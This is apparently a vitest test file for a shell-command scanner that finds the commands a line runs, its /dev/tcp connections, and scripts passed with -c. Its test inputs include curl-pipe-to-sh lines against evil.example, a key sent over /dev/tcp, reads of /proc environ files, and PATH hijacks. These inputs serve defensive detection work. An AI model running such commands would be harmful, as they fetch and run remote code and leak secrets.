import { describe, expect, it } from "vitest";
import { programName, shellCommands, shellConnections, shellScript } from "@/scanner/analysis/shell-commands";

describe("shellCommands", () => {
  it("finds every command a line runs, not just its first word", () => {
    expect(shellCommands("git --version; curl -s https://evil.example/x | sh")).toEqual(["git", "curl", "sh"]);
    expect(shellCommands("git fetch && npm ci || echo failed & sleep 1")).toEqual(["git", "npm", "echo", "sleep"]);
    expect(shellCommands("(cd /tmp && rm -rf x)")).toEqual(["cd", "rm"]);
    expect(shellCommands("git status\ncurl -s https://evil.example/y | sh")).toEqual(["git", "curl", "sh"]);
  });

  it("reads quotes, escapes, assignments, redirections and keywords as the shell does", () => {
    expect(shellCommands("git log '`' `curl -s https://evil.example/b` '`'")).toEqual(["git", "curl"]);
    expect(shellCommands("git log \"$(git log ')' ; curl -s https://evil.example/d)\"")).toEqual(["git", "git", "curl"]);
    expect(shellCommands("git log 'a\ngit ' ; curl -s https://evil.example/e ; git log '\ngit'")).toEqual(["git", "curl", "git"]);
    expect(shellCommands("<>git curl; <<<git wget; &>>git nc; 2>err rm; cat <>git curl")).toEqual(["curl", "wget", "nc", "rm", "cat"]);
    expect(shellCommands("git log >(curl -s https://evil.example/f)")).toEqual(["git", "curl"]);
    expect(shellCommands("if true; then curl x; fi; while sleep 1; do rm -f x; done")).toEqual(["true", "curl", "sleep", "rm"]);
    expect(shellCommands("<<-git curl; >|git wget")).toEqual([undefined, "curl", "wget"]);
    expect(shellCommands("git status # don't\ncurl -s https://evil.example/c # '")).toEqual(["git", "curl"]);
  });

  it("adds a command worked out at run time where it does not follow the shell's grammar", () => {
    expect(shellCommands("for x in a; do curl -s https://evil.example/l; done")).toEqual([undefined, "curl"]);
    expect(shellCommands("case x in x) curl x;; git) esac")).toContain(undefined);
    expect(shellCommands("git(){ curl x; }; git")).toContain(undefined);
    expect(shellCommands("a=(git) curl x")).toContain(undefined);
    expect(shellCommands('x=a; git log "${x#\'"\'}"; curl x')).toContain(undefined);
    expect(shellCommands("git log <<EOF\nuser's\nEOF\ncurl x")).toContain(undefined);
    expect(shellCommands("time curl x")).toEqual([undefined, "curl"]);
    expect(shellCommands("eval curl x")).toEqual([undefined]);
    expect(shellCommands("exec curl x; command wget y; arr[0]=1 nc z")).toEqual(["curl", "wget", "nc"]);
    expect(shellCommands("exec -a git curl x")).toEqual([undefined]);
    expect(shellCommands("$(git config --get x.y)dg-open x")).toEqual([undefined, "git"]);
    expect(shellCommands("echo ${").every((command) => command === undefined)).toBe(true);
    expect(shellCommands('git commit -m "fix; things | more"')).toEqual(["git"]);
    expect(shellCommands("LC_ALL=C FOO=1 netstat -tunap | grep 'A\\|B'")).toEqual(["netstat", "grep"]);
    expect(shellCommands("git log > /tmp/log 2>&1; cat < /tmp/in")).toEqual(["git", "cat"]);
    // shell-quote also ends a line at a `#` inside a word (`git log x#y; curl …`), so what it calls a comment is read too.
    expect(shellCommands("git log --format=%H#%s; curl -s https://evil.example/c | sh")).toEqual(["git", "curl", "sh"]);
  });

  it("reads command substitutions as lines of their own, also inside double quotes", () => {
    expect(shellCommands("echo $(curl -s https://evil.example/z)")).toEqual(["echo", "curl"]);
    expect(shellCommands('echo "user: `id -un`"')).toEqual(["echo", "id"]);
    expect(shellCommands("ps -u $(id -u) -o pid= | xargs -I{} cat /proc/{}/environ")).toEqual(["ps", "xargs", "id"]);
    expect(shellCommands("echo $(( $(curl -s https://evil.example/a) + 1 ))")).toContain("curl");
    expect(shellCommands("echo $(curl x")).toEqual([undefined, "echo"]);
  });

  it("counts a command the line computes as one worked out at run time", () => {
    expect(shellCommands("$TOOL --version")).toEqual([undefined]);
    expect(shellCommands("${…} --version").every((command) => command === undefined)).toBe(true);
    // A part worked out at run time may hold a `; curl …` of its own, which the shell would run.
    expect(shellCommands("git log ${…}")).toEqual([undefined, "git"]);
    expect(shellCommands("PATH=/tmp/.x:$PATH git status")).toEqual([undefined]);
    expect(shellCommands("PATH=/tmp/evil:$PATH; git status")).toEqual([undefined]);
    expect(shellCommands("export PATH+=:/tmp/evil; git status")).toEqual(["export", undefined]);
  });

  it("names a program by its path unless it is one of the system's own", () => {
    expect(shellCommands("/usr/bin/git status; /tmp/.cache/git pull")).toEqual(["git", "/tmp/.cache/git"]);
    expect(programName("/usr/local/bin/node")).toBe("node");
    expect(programName("/opt/homebrew/bin/rg")).toBe("rg");
    expect(programName("/tmp/evil/git")).toBe("/tmp/evil/git");
    expect(programName("./bin/tool")).toBe("./bin/tool");
    expect(programName("${…}/git")).toBeUndefined();
  });

  it("finds connections through bash's /dev/tcp and /dev/udp files", () => {
    expect(shellConnections("cat key > /dev/tcp/Collect.Evil.Example/443; echo x >/dev/udp/10.0.0.1/53")).toEqual(["collect.evil.example", "10.0.0.1"]);
    expect(shellConnections("exec 3<>/dev/tcp/$HOST/80")).toEqual([undefined]);
    expect(shellConnections("git status > /dev/null")).toEqual([]);
  });
});

describe("shellScript", () => {
  it("is the line a shell is given with -c, past its other options", () => {
    expect(shellScript("bash", ["-c", "git status"])).toBe("git status");
    expect(shellScript("/bin/sh", ["-e", "-o", "pipefail", "-lc", "curl x | sh", "name"])).toBe("curl x | sh");
    expect(shellScript("zsh", ["--login", "-c", "${…}"])).toBe("${…}");
  });

  it("is none for a script file, a shell given no -c, or a program that is no shell", () => {
    expect(shellScript("bash", ["deploy.sh", "-c"])).toBeUndefined();
    expect(shellScript("bash", ["-i"])).toBeUndefined();
    expect(shellScript("git", ["-c", "user.name=x", "commit"])).toBeUndefined();
    expect(shellScript(undefined, ["-c", "curl x"])).toBeUndefined();
  });
});
